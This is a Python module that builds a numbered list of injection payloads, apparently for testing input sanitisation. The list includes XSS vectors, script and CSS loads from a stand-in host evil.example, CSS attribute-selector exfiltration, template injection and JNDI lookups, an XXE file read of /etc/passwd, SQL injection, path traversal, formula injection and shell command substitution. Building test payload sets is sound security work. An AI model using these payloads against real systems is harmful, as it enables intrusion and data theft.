"""Words made to run, to load or to break: what somebody would write into any field of ours. Each fits on one line."""

from __future__ import annotations

_HANDLERS = (
    "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "<svg/onload=alert`{n}`>", "<body onload=alert({n})>",
    "<video><source onerror=alert({n})></video>", "<audio src onloadstart=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<select autofocus onfocus=alert({n})>", "<textarea autofocus onfocus=alert({n})>x",
    "<details open ontoggle=alert({n})>",
    "<marquee onstart=alert({n})>x</marquee>", "<object data=x onerror=alert({n})></object>",
    "<a id=x tabindex=1 onfocus=alert({n})>",
    "<form oninput=alert({n})><input>", "<div onpointerrawupdate=alert({n})>x</div>",
    "<b style=animation-name:x onanimationstart=alert({n})>",
    "<style onload=alert({n})></style>", "<link rel=stylesheet href=x onerror=alert({n})>",
    "<iframe onload=alert({n})></iframe>",
    "<img src=1 srcset=x onerror=alert({n})>", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=alert({n})>",
    "<math><mtext><img src=x onerror=alert({n})></mtext></math>", "<x contenteditable onblur=alert({n}) tabindex=1>x",
    "<track onerror=alert({n})>", "<embed src=x onload=alert({n})>", "<frameset onload=alert({n})>",
    "<meter onmouseover=alert({n})>0</meter>",
    "<button popovertarget=x>x</button><xss id=x popover onbeforetoggle=alert({n})>",
    "<dialog open onclose=alert({n})><form method=dialog>",
)  # fmt: skip
_SCRIPTS = (
    "<script>alert({n})</script>", "<ScRiPt>alert({n})</sCrIpT>", "<script src=//evil.example/{n}.js></script>",
    "<script/x>alert({n})</script>", "<script type=module>import '//evil.example/{n}.js'</script>",
    "<<script>alert({n})//<</script>",
    "<script>alert({n})", "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "<svg><script>alert&lpar;{n}&rpar;</script></svg>",
    "<script\\x20type=text/javascript>alert({n})</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
    "<template><script>alert({n})</script></template>", "</script><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</style><script>alert({n})</script>", "</textarea><script>alert({n})</script>",
    "--><script>alert({n})</script><!--",
    "]]><script>alert({n})</script>", "<!--<script>--><script>alert({n})</script>",
    "<script charset=utf-7>+ADw-alert({n})+AD4-</script>",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java&#x09;script:alert({n})", "javascript&colon;alert({n})",
    "&#106;avascript:alert({n})",
    "data:text/html,<script>alert({n})</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n}",
    "vbscript:msgbox({n})",
    "//evil.example/{n}", "\\\\evil.example\\{n}", "/\\evil.example/{n}", "https:evil.example/{n}",
    "https://localhost@evil.example/{n}",
    "http://evil.example#@localhost/{n}", "blob:https://evil.example/{n}", "filesystem:https://evil.example/{n}",
    "view-source:javascript:alert({n})",
    "feed:javascript:alert({n})", "jar:https://evil.example!/{n}", "javascript://localhost/%0aalert({n})",
    "%6a%61vascript:alert({n})", "?next=//evil.example/{n}",
)  # fmt: skip
_BREAKOUTS = (
    "\" onmouseover=alert({n}) x=\"", "' onmouseover='alert({n})", "\"><img src=x onerror=alert({n})>",
    "'><img src=x onerror=alert({n})>",
    "\" autofocus onfocus=alert({n}) tabindex=1 x=\"", "\"/><script>alert({n})</script>", "` onerror=alert({n}) `",
    "x\" style=\"position:fixed;inset:0",
    "\" formaction=javascript:alert({n}) \"", "\" srcdoc=\"<script>alert({n})</script>",
    "\" href=javascript:alert({n}) \"", "\" data-stream=//evil.example/{n} \"",
    "\" id=first x=\"", "\" data-live=x data-base=//evil.example/{n} x=\"", "x' name='action' value='{n}",
    "\"}};alert({n});//", "';alert({n});//", "\\';alert({n});//",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "${{alert({n})}}", "</p></div></main><h1>gone {n}</h1>",
    "</option></select><img src=x onerror=alert({n})>",
    "</table><img src=x onerror=alert({n})><table>", "</svg><img src=x onerror=alert({n})>",
    "</a><a href=javascript:alert({n})>x</a>", "{{\"action\":\"open\",\"n\":{n}}}",
)  # fmt: skip
_LOADS = (
    "<img src=//evil.example/{n}.png>", "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=preload href=//evil.example/{n} as=image>",
    "<link rel=dns-prefetch href=//evil.example>{n}", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<iframe src=//evil.example/{n}></iframe>", "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>", "<video poster=//evil.example/{n}>",
    "<input type=image src=//evil.example/{n}>", "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "<svg><image href=//evil.example/{n} /></svg>",
    "<svg><use href=//evil.example/{n}#x></use></svg>", "<table background=//evil.example/{n}>",
    "<a ping=//evil.example/{n} href=/>x</a>", "<portal src=//evil.example/{n}>",
    "<picture><source srcset=//evil.example/{n}><img></picture>",
    "<meta http-equiv=content-security-policy content='default-src *'>{n}",
    "<script nonce=x src=//evil.example/{n}></script>",
)  # fmt: skip
_STYLES = (
    "<style>*{{display:none}}</style>{n}", "<style>@import '//evil.example/{n}.css'</style>",
    "<div style=background:url(//evil.example/{n})>x</div>",
    "<p style='position:fixed;inset:0;z-index:999999'>{n}</p>",
    "<style>input[value^=a]{{background:url(//evil.example/{n})}}</style>", "}}*{{display:none}}/*{n}",
    "</style><style>body{{background:url(//evil.example/{n})}}", "expression(alert({n}))", "url(javascript:alert({n}))",
    "-moz-binding:url(//evil.example/{n})",
    "<svg style='width:100vw;height:100vh'>{n}", "\\27;}}*{{color:red}}{n}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{constructor.constructor('alert({n})')()}}}}", "{{{{7*7}}}}{n}", "${{7*7}}{n}", "#{{7*7}}{n}",
    "<%= alert({n}) %>", "{{% for x in y %}}{n}", "{{0.__class__.__mro__}}{n}", "%s%s%n{n}",
    "{{time}} {{n}} {{brand}} {n}", "__proto__[x]={n}", "constructor.prototype.x={n}", "*{{T(java.lang.Runtime)}}{n}",
    "[[${{7*7}}]]{n}", "<!--#exec cmd=id-->{n}", "${{jndi:ldap://evil.example/{n}}}",
)  # fmt: skip
_SHAPES = (
    "<math><mi//xlink:href=\"data:x,<script>alert({n})</script>\">",
    "<svg><style><img title='</style><img src=x onerror=alert({n})>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<noembed><img title='</noembed><img src=x onerror=alert({n})>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert({n})>'>", "<plaintext>{n}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;{n}",
    "<?xml-stylesheet href='//evil.example/{n}'?>", "<a href=x>{n}", "<b><i></b>{n}</i>", "<table><td><b>{n}",
    "&lt;script&gt;alert({n})&lt;/script&gt;", "&amp;lt;img src=x onerror=alert({n})&amp;gt;", "&#x3C;script&#x3E;{n}",
    "&#60;img{n}&#62;",
    "＜script＞alert({n})＜/script＞", "‹script›alert({n})‹/script›", "%3Cscript%3Ealert({n})%3C/script%3E",
    "\\x3cscript\\x3ealert({n})\\x3c/script\\x3e", "<img src=x one\u200brror=alert({n})>",
)  # fmt: skip
_SIGNS = (
    "\u202ealert\u202c{n}", "\u2066left\u2069{n}", "\u200f(\u200f{n}\u200f)", "a\u200db{n}", "x\ufe0f{n}",
    "\ufdfa\ufdfa{n}", "👩\u200d👩\u200d👧\u200d👦{n}", "Ｆｕｌｌ {n}", "İstanbul ſ ﬀ {n}", "\u2028x{n}".strip(),
    "𝐛𝐨𝐥𝐝 {n}", "\u0661\u0662 {n}", "a\u0308o\u0308 {n}", "\U000e0041\U000e007f x{n}", "<\u0338b>{n}",
    "∕∕evil.example∕{n}", "javascrıpt:alert({n})", "\u3164x{n}",
    "田中さん {n}", "شحنة {n} abc", "null{n}", "undefined {n}", "NaN {n}", "=cmd|' /C calc'!A{n}", "+1+{n}",
    "@SUM(1+{n})",
    "-2+{n}", "'; DROP TABLE x; -- {n}", "../../../../etc/passwd{n}",
    "%00{n}", "C:\\con\\{n}", "() {{ :;}}; echo {n}", "|| true {n}", "$(touch x{n})", "<{n}", "{n}>", "&{n};",
    "\"{n}\"", "'{n}'", "\\{n}\\", "`{n}`", "{{{n}}}", "a", "{n}", "/{n}", "//{n}", "#{n}", "?{n}=&amp", "\u00a0{n}",
)  # fmt: skip
_ALL = (_HANDLERS, _SCRIPTS, _ADDRESSES, _BREAKOUTS, _LOADS, _STYLES, _TEMPLATES, _SHAPES, _SIGNS)
PAYLOADS: tuple[str, ...] = tuple(
    made.format(n=1000 + n).strip().replace("\u2028", " ").replace("\u00a0", " ").strip()
    for n, made in enumerate(template for kind in _ALL for template in kind)
)
"""All of them, each with a number of its own, so that none passes for another."""
